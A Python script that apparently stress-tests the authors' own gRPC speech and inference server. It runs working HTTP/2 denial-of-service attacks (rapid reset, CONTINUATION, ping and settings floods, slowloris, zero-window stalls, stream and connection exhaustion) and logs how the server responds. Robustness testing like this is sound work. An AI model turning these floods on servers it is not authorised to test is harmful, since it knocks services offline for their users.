"""Attacks a gRPC server over raw HTTP/2, and tells how each ended.

    hostile.py HOST:PORT ATTACK...

One line of JSON an attack: its name, what it sent, and how the server answered:
"goaway N" (error code of RFC 9113, section 7), "reset N" of a stream, "status N" of gRPC,
"closed", or "nothing" within PATIENCE. Needs h2 and hyperframe from PyPI.
"""

import json
import os
import random
import select
import socket
import struct
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STREAM = "/ser.v1.SpeechEmotion/StreamingRecognize"
CLIP = "/ser.v1.SpeechEmotionClips/Recognize"
INFER = "/inference.GRPCInferenceService/ModelInfer"
METADATA = "/inference.GRPCInferenceService/ModelMetadata"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
PATIENCE = 20.0
# No frame, and no end of the connection either.
NOTHING = object()
# Calls without audio that a connection may have.
OF_A_CONNECTION = 64
# A stream's window, and the connection's, of a client that acknowledges no settings.
WINDOW = 65_535


class Connection:
    """A connection on which nothing is done by itself."""

    def __init__(self, address, settings=None, preface=True):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), PATIENCE)
        # Small frames wait for nobody's acknowledgement.
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder, self.decoder = Encoder(), Decoder()
        self.received = b""
        # How each stream has ended.
        self.ended = {}
        if preface:
            self.send(PREFACE + SettingsFrame(settings=settings or {}).serialize())

    def send(self, data):
        """Sends, and tells whether the server still takes it."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def headers(self, stream, path=STREAM, flags=("END_HEADERS",)):
        fields = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "hostile"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
        return HeadersFrame(stream, self.encoder.encode(fields), flags=flags)

    def frames(self, deadline):
        """The server's frames until `deadline`; None at the end."""
        while True:
            while len(self.received) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.received[:9]))
                if len(self.received) < 9 + length:
                    break
                frame.parse_body(memoryview(self.received[9 : 9 + length]))
                self.received = self.received[9 + length :]
                yield frame
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([self.socket], [], [], left)[0]:
                return
            try:
                data = self.socket.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                yield None
                return
            self.received += data

    def told(self, frame):
        """How a frame of the server ends a stream or all of them, if it does."""
        if frame is None:
            return "closed"
        if isinstance(frame, GoAwayFrame):
            return f"goaway {frame.error_code}"
        if isinstance(frame, RstStreamFrame):
            return f"reset {frame.error_code}"
        if isinstance(frame, HeadersFrame):
            fields = dict(self.decoder.decode(frame.data))
            if "grpc-status" in fields:
                return f"status {fields['grpc-status']}"
        return None

    def ends(self, streams=1, patience=PATIENCE):
        """How the server has ended its streams, once they are so many; what it says of one
        that has ended already doesn't count."""
        for frame in self.frames(time.monotonic() + patience):
            told = self.told(frame)
            if told and told.startswith(("closed", "goaway")):
                return [told]
            if told:
                self.ended.setdefault(frame.stream_id, told)
            if len(self.ended) >= streams:
                return list(self.ended.values())
        return ["nothing"]

    def end(self, streams=1, patience=PATIENCE):
        """How the server answers in the end."""
        return self.ends(streams, patience)[-1]

    def upload(self, stream, payload):
        """Sends as fast as flow control allows, and tells how that ends."""
        room = {0: WINDOW, stream: WINDOW}
        deadline = time.monotonic() + PATIENCE
        sent = 0
        while sent < len(payload):
            size = min(*room.values(), 16384, len(payload) - sent)
            if size > 0:
                self.send(DataFrame(stream, payload[sent : sent + size]).serialize())
                sent += size
                room = {which: left - size for which, left in room.items()}
                continue
            frame = next(self.frames(deadline), NOTHING)
            if frame is NOTHING:
                return "nothing"
            if isinstance(frame, WindowUpdateFrame) and frame.stream_id in room:
                room[frame.stream_id] += frame.window_increment
            if told := self.told(frame):
                return told
        self.send(DataFrame(stream, b"", flags=("END_STREAM",)).serialize())
        return self.end(patience=deadline - time.monotonic())

    def call(self, stream, path, body):
        """A whole call, of which the answer may be read later."""
        last = DataFrame(stream, message(body), flags=("END_STREAM",))
        self.send(self.headers(stream, path).serialize() + last.serialize())

    def close(self):
        self.socket.close()


def config(pace=1):
    """A first message: s16le at 16 kHz, one channel."""
    layout = b"\x08\x01\x10\x80\x7d\x18\x01"
    body = b"\x0a" + bytes([len(layout)]) + layout + b"\x18" + bytes([pace])
    return message(b"\x0a" + bytes([len(body)]) + body)


def audio(size):
    return message(field(2, os.urandom(size)))


def clip():
    """Noise as a recording: s16le at 16 kHz, one channel."""
    layout = b"\x08\x01\x10\x80\x7d\x18\x01"
    return field(1, field(1, layout) + field(2, os.urandom(1_000)))


def field(number, payload):
    """A field with a length."""
    length = b""
    rest = len(payload)
    while True:
        length += bytes([rest & 0x7F | (0x80 if rest > 0x7F else 0)])
        rest >>= 7
        if not rest:
            break
    return bytes([number << 3 | 2]) + length + payload


def message(body):
    return struct.pack(">BI", 0, len(body)) + body


def data(stream, payload):
    """DATA frames of at most 16 KiB."""
    pieces = (payload[at : at + 16384] for at in range(0, len(payload), 16384))
    return b"".join(DataFrame(stream, piece).serialize() for piece in pieces)


def slow_loris(address):
    """Connections that never finish saying what they speak."""
    connections = [Connection(address, preface=False) for _ in range(100)]
    for byte in PREFACE[:-1]:
        for connection in connections:
            connection.send(bytes([byte]))
        time.sleep(0.02)
    ends = {connection.end() for connection in connections}
    return len(connections), ends


def reset_flood(address):
    """Streams that are reset as soon as they are opened."""
    connection = Connection(address)
    sent = 0
    while sent < 50_000:
        burst = b""
        for stream in range(2 * sent + 1, 2 * sent + 1001, 2):
            burst += connection.headers(stream).serialize()
            burst += RstStreamFrame(stream, 8).serialize()
        sent += 500
        if not connection.send(burst):
            break
    return sent, {connection.end()}


def flood(address, frame, count):
    connection = Connection(address)
    connection.socket.settimeout(3)
    sent = 0
    burst = frame.serialize() * 1_000
    while sent < count and connection.send(burst):
        sent += 1_000
    end = connection.end(patience=2)
    connection.close()
    return sent, {end}


def ping_flood(address):
    """Pings whose answers are never read."""
    return flood(address, PingFrame(opaque_data=b"12345678"), 1_000_000)


def settings_flood(address):
    """Settings whose acknowledgements are never read."""
    return flood(address, SettingsFrame(settings={3: 100}), 1_000_000)


def continuation_flood(address):
    """Header fields without an end."""
    connection = Connection(address)
    connection.send(connection.headers(1, flags=()).serialize())
    burst = ContinuationFrame(1, b"\x00" * 8 + b"\x00" * 1_000).serialize() * 100
    sent = 0
    while sent < 100_000 and connection.send(burst):
        sent += 100
    return sent, {connection.end()}


def huge_headers(address):
    """A field of a megabyte, in frames that are allowed."""
    connection = Connection(address)
    fields = [(":path", STREAM), ("x-huge", "y" * (1 << 20))]
    block = connection.encoder.encode(fields, huffman=False)
    connection.send(HeadersFrame(1, block[:16384]).serialize())
    pieces = [block[at : at + 16384] for at in range(16384, len(block), 16384)]
    for at, piece in enumerate(pieces):
        flags = ("END_HEADERS",) if at == len(pieces) - 1 else ()
        connection.send(ContinuationFrame(1, piece, flags=flags).serialize())
    return len(block), {connection.end()}


def huge_message(address):
    """A message that claims a gibibyte."""
    connection = Connection(address)
    connection.send(connection.headers(1).serialize())
    connection.send(data(1, struct.pack(">BI", 0, 1 << 30) + b"\x00" * 30_000))
    return 1 << 30, {connection.end()}


def empty_data(address):
    """DATA frames with nothing in them."""
    connection = Connection(address)
    connection.send(connection.headers(1).serialize())
    burst = DataFrame(1, b"").serialize() * 1_000
    sent = 0
    while sent < 100_000 and connection.send(burst):
        sent += 1_000
    return sent, {connection.end()}


def tiny_data(address):
    """Audio in DATA frames of one byte, on a stream that isn't read."""
    connection = Connection(address, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    connection.send(connection.headers(1).serialize() + data(1, config(pace=2)))
    sent = 0
    for byte in audio(30_000):
        if not connection.send(DataFrame(1, bytes([byte])).serialize()):
            break
        sent += 1
    end = connection.end(patience=3)
    connection.close()
    return sent, {end}


def closed_window(address):
    """Streams that send audio and never let a result through."""
    connection = Connection(address, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    # The server's own settings first, which make room for all of it.
    connection.end(patience=0.5)
    streams = range(1, 101, 2)
    for stream in streams:
        payload = config(pace=2) + audio(60_000)
        connection.send(connection.headers(stream).serialize() + data(stream, payload))
    end = connection.end(streams=len(streams))
    return len(streams), {end}


def half_open(address):
    """Streams that are opened and say nothing."""
    connection = Connection(address)
    streams = range(1, 201, 2)
    connection.send(b"".join(connection.headers(stream).serialize() for stream in streams))
    return len(streams), {connection.end(streams=len(streams))}


def garbage(address):
    """What is no HTTP/2, from the first byte or later."""
    chance = random.Random(1)
    ends = set()
    for at in range(100):
        connection = Connection(address, preface=at % 2 == 1)
        connection.send(chance.randbytes(20_000))
        ends.add(connection.end())
        connection.close()
    return 100, ends


def window_overflow(address):
    """A flow-control window beyond the largest there may be."""
    connection = Connection(address)
    connection.send(WindowUpdateFrame(0, 0x7FFFFFFF).serialize())
    return 1, {connection.end()}


def churn(address):
    """Connections that come and go, half of them in the middle of a stream."""
    for at in range(2_000):
        connection = Connection(address)
        if at % 2:
            connection.send(connection.headers(1).serialize() + data(1, config()))
        connection.close()
    return 2_000, {answered(address)}


def check(address):
    """How the server answers a question about its health."""
    connection = Connection(address)
    connection.call(1, CHECK, b"")
    end = connection.end()
    connection.close()
    return end


def answered(address):
    """The same, once there is room for one more connection."""
    deadline = time.monotonic() + PATIENCE
    while (end := check(address)) == "closed" and time.monotonic() < deadline:
        time.sleep(0.1)
    return end


def empty_tensors(address):
    """Requests of empty tensors: two bytes each, and three hundred once decoded."""
    ends = set()
    for _ in range(4):
        connection = Connection(address)
        connection.send(connection.headers(1, INFER).serialize())
        ends.add(connection.upload(1, message(b"\x2a\x00" * (8 << 20))))
        connection.close()
    return 8 << 20, ends


def large_names(address):
    """Sixteen megabytes where a name is due."""
    connection = Connection(address)
    connection.send(connection.headers(1, METADATA).serialize())
    return 16 << 20, {connection.upload(1, message(b"\x0a\x00" * (8 << 20)))}


def silent_questions(address):
    """Calls whose request never comes, more than a connection may have, and a question
    on another."""
    connection = Connection(address)
    streams = range(1, 1001, 2)
    headers = (connection.headers(stream, CHECK).serialize() for stream in streams)
    connection.send(b"".join(headers))
    connection.ends(streams=len(streams) - OF_A_CONNECTION)
    answer = check(address)
    return len(streams), {answer, *connection.ends(streams=len(streams))}


def silent(address, path, calls):
    """So many calls whose request never comes."""
    connection = Connection(address)
    streams = range(1, 2 * calls, 2)
    connection.send(b"".join(connection.headers(stream, path).serialize() for stream in streams))
    return calls, set(connection.ends(streams=calls))


def silent_talks(address):
    """Reflection that nobody asks anything."""
    return silent(address, REFLECT, 50)


def silent_clips(address):
    """Recordings that never come, more than there may be."""
    return silent(address, CLIP, 20)


def unread_clips(address):
    """A recording whose results are never read, and others after it."""
    unread = Connection(address, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    unread.call(1, CLIP, clip())
    # The answer has begun, and all that is left of it waits.
    answered = (isinstance(frame, HeadersFrame) for frame in unread.frames(time.monotonic() + PATIENCE))
    begun = {"begun" if any(answered) else "not begun"}
    others = Connection(address)
    streams = range(1, 41, 2)
    for stream in streams:
        others.call(stream, CLIP, clip())
    ends = set(others.ends(streams=len(streams)))
    unread.close()
    return 1 + len(streams), begun | ends


def watches(address):
    """Watches of health, more than there may be, and a question on another connection."""
    connections = [Connection(address) for _ in range(8)]
    streams = range(1, 2 * OF_A_CONNECTION, 2)
    for connection in connections:
        for stream in streams:
            connection.call(stream, WATCH, b"")
    last = connections[-1]
    ends = set(last.ends(streams=50))
    return len(connections) * len(streams), ends | {check(address)}


def probe_hoard(address):
    """Every connection of the listener of probes with a watch, and one more question."""
    connections = [Connection(address) for _ in range(64)]
    for connection in connections:
        connection.call(1, WATCH, b"")
    # Those that were refused are closed, which makes room.
    return len(connections), {answered(address)}


def probe_questions(address):
    """Half of the connections of the listener of probes with questions that never come,
    and one question that does."""
    connections = [Connection(address) for _ in range(32)]
    streams = range(1, 32, 2)
    ends = set()
    for connection in connections:
        headers = (connection.headers(stream, CHECK).serialize() for stream in streams)
        connection.send(b"".join(headers))
        ends |= set(connection.ends(streams=len(streams) - 2))
    return len(connections) * len(streams), ends | {answered(address)}


ATTACKS = {
    attack.__name__: attack
    for attack in (
        slow_loris,
        reset_flood,
        ping_flood,
        settings_flood,
        continuation_flood,
        huge_headers,
        huge_message,
        empty_data,
        tiny_data,
        closed_window,
        half_open,
        garbage,
        window_overflow,
        churn,
        empty_tensors,
        large_names,
        silent_questions,
        silent_talks,
        silent_clips,
        unread_clips,
        watches,
    )
}

# Those of the listener of probes.
PROBE_ATTACKS = {attack.__name__: attack for attack in (probe_questions, probe_hoard)}


def main():
    address, *names = sys.argv[1:]
    for name in names or ATTACKS:
        began = time.monotonic()
        sent, ends = (ATTACKS | PROBE_ATTACKS)[name](address)
        seconds = round(time.monotonic() - began, 2)
        told = {"attack": name, "sent": sent, "ends": sorted(ends), "seconds": seconds}
        print(json.dumps(told), flush=True)


if __name__ == "__main__":
    main()
